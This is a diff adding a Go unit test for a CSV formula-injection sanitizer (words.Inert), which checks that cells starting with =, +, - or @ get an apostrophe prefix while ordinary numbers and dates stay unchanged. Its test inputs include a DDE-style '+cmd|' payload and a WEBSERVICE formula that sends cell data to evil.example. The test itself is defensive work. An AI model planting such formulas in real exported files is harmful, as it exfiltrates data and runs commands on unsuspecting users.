@@ -85,3 +85,41 @@ func TestWhatSteersATerminalIsShownAsAReplacement(t *testing.T) {
 		require.Equal(t, want, words.Clean(text))
 	}
 }
+
+func TestACellOfCSVIsNoFormula(t *testing.T) {
+	for text, want := range map[string]string{
+		"=1+1":      "'=1+1",
+		"@SUM(A1)":  "'@SUM(A1)",
+		"＝1":        "'＝1",
+		"+2+5":      "'+2+5",
+		"+2+5+cmd|": "'+2+5+cmd|",
+		"-":         "'-",
+		"+":         "'+",
+		"+%":        "'+%",
+		"-1/2":      "'-1/2",
+		"+1e5":      "'+1e5",
+		"+1.":       "'+1.",
+		"+ room":    "'+ room",
+		`+WEBSERVICE("https://evil.example/"&A1)+ room`: `'+WEBSERVICE("https://evil.example/"&A1)+ room`,
+		"+5/9+A1 room":  "'+5/9+A1 room",
+		"+5/9/1 room":   "'+5/9/1 room",
+		"-1,5/9 room":   "'-1,5/9 room",
+		"+5/9 room ":    "'+5/9 room ",
+		"a;=1;+2+5;-3":  "a;'=1;'+2+5;-3",
+		"a\t@x":         "a\t'@x",
+		"+75000":        "+75000",
+		"-25000.50":     "-25000.50",
+		"-1.000.000,50": "-1.000.000,50",
+		"-20%":          "-20%",
+		"+0.5%":         "+0.5%",
+		"+5/9 room":     "+5/9 room",
+		"-1/9 room":     "-1/9 room",
+		"-1/9 room;+2":  "-1/9 room;+2",
+		"a - b":         "a - b",
+		"art. 32 = 32":  "art. 32 = 32",
+		"":              "",
+		"2022-04-07":    "2022-04-07",
+	} {
+		require.Equal(t, want, words.Inert(text), text)
+	}
+}
